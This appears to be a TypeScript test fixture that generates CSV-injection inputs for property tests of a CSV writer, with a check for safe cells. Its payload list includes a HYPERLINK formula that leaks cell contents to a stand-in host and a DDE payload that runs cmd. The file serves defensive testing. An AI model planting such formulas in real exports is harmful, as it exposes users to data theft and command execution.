/**
 * Generated text a spreadsheet could run as a formula (OWASP, "CSV Injection"): cells starting
 * with = + - @ tab or carriage return, DDE and HYPERLINK payloads, separators and quotes inside,
 * plus ordinary Unicode. Used by the CSV writer's property test and the export property test.
 */
import fc from 'fast-check';

const payloads = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '=1;=2',
  'x;=1+1',
  '"quoted", =1',
];

export function hostileText(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom(...payloads),
    fc
      .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ''), fc.string({ maxLength: 20 }))
      .map(([head, tail]) => head + tail),
    fc.string({ unit: 'grapheme', maxLength: 12 }),
  );
}

/** A cell is safe when it does not start with a formula character, or is a plain number. */
export function isSafeCell(cell: string): boolean {
  if (!/^[=+\-@\t\r]/.test(cell)) return true;
  return /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
}
